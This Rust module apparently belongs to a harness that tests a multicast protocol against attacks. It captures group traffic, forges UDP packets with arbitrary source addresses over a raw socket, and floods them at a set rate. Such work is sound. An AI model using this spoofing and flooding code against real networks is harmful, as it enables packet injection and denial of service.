//! Attacking host: receives the packets of the group, and sends from any source address.

use std::io::ErrorKind;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, Socket, Type};

use super::forge::Captured;

pub(super) struct Attacker {
    group_socket: UdpSocket,
    raw: Socket,
    pub(super) group: SocketAddrV4,
    pub(super) here: Ipv4Addr,
}

/// Longest wait for a packet before a look at the stop flag: 20 ms.
const GLANCE: Duration = Duration::from_millis(20);

/// Protocol number of sockets whose packets include the IP header.
const RAW: i32 = 255;

impl Attacker {
    pub(super) fn new(group: SocketAddrV4, here: Ipv4Addr) -> std::io::Result<Self> {
        let socket = Socket::new(Domain::IPV4, Type::DGRAM, Some(Protocol::UDP))?;
        socket.set_reuse_address(true)?;
        socket.bind(&group.into())?;
        socket.join_multicast_v4(group.ip(), &here)?;
        socket.set_read_timeout(Some(GLANCE))?;
        let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))?;
        raw.set_header_included_v4(true)?;
        raw.set_multicast_if_v4(&here)?;
        Ok(Self { group_socket: socket.into(), raw, group, here })
    }

    /// Receives packets of the group until `enough` returns true; false if `stop` was set before.
    pub(super) fn capture(
        &self,
        stop: &AtomicBool,
        captured: &mut Captured,
        enough: impl Fn(&Captured) -> bool,
    ) -> std::io::Result<bool> {
        let mut buffer = vec![0; 65_536];
        while !enough(captured) {
            if stop.load(Ordering::Relaxed) {
                return Ok(false);
            }
            match self.group_socket.recv_from(&mut buffer) {
                Ok((len, SocketAddr::V4(from))) => captured.note(from, &buffer[..len]),
                Ok(_) => {}
                Err(error)
                    if [ErrorKind::WouldBlock, ErrorKind::TimedOut].contains(&error.kind()) => {}
                Err(error) => return Err(error),
            }
        }
        Ok(true)
    }

    pub(super) fn send(
        &self,
        from: SocketAddrV4,
        to: SocketAddrV4,
        datagram: &[u8],
    ) -> std::io::Result<()> {
        let packet = ip_packet(from, to, datagram);
        match self.raw.send_to(&packet, &to.into()) {
            // A full send queue drops the rest of a flood.
            Err(error) if error.raw_os_error() == Some(nix::errno::Errno::ENOBUFS as i32) => Ok(()),
            sent => sent.map(|_| ()),
        }
    }

    /// Sends `per_second` times a second until `stop` or the end of `span`; returns the number.
    pub(super) fn flood(
        per_second: f64,
        span: Duration,
        stop: &AtomicBool,
        mut send: impl FnMut(u32) -> std::io::Result<()>,
    ) -> std::io::Result<u32> {
        let begun = Instant::now();
        let mut sent = 0;
        while begun.elapsed() < span && !stop.load(Ordering::Relaxed) {
            let due = begun + Duration::from_secs_f64(f64::from(sent) / per_second);
            let early = due.saturating_duration_since(Instant::now());
            if early.is_zero() {
                send(sent)?;
                sent += 1;
            } else {
                std::thread::sleep(early.min(GLANCE));
            }
        }
        Ok(sent)
    }
}

/// Adds UDP and IP headers. The kernel fills in zero fields; UDP needs no checksum.
fn ip_packet(from: SocketAddrV4, to: SocketAddrV4, datagram: &[u8]) -> Vec<u8> {
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 16, 17, 0, 0];
    packet.extend_from_slice(&from.ip().octets());
    packet.extend_from_slice(&to.ip().octets());
    for word in [from.port(), to.port(), datagram.len() as u16 + 8, 0] {
        packet.extend_from_slice(&word.to_be_bytes());
    }
    packet.extend_from_slice(datagram);
    packet
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_packet_has_the_addresses_that_it_was_given() {
        let [from, to] = ["10.77.64.9:99", "239.1.2.3:7500"].map(|text| text.parse().unwrap());
        let packet = ip_packet(from, to, b"abc");
        assert_eq!(packet.len(), 20 + 8 + 3);
        assert_eq!(packet[12..20], [10, 77, 64, 9, 239, 1, 2, 3]);
        assert_eq!(packet[20..28], [0, 99, 0x1d, 0x4c, 0, 11, 0, 0]);
    }
}
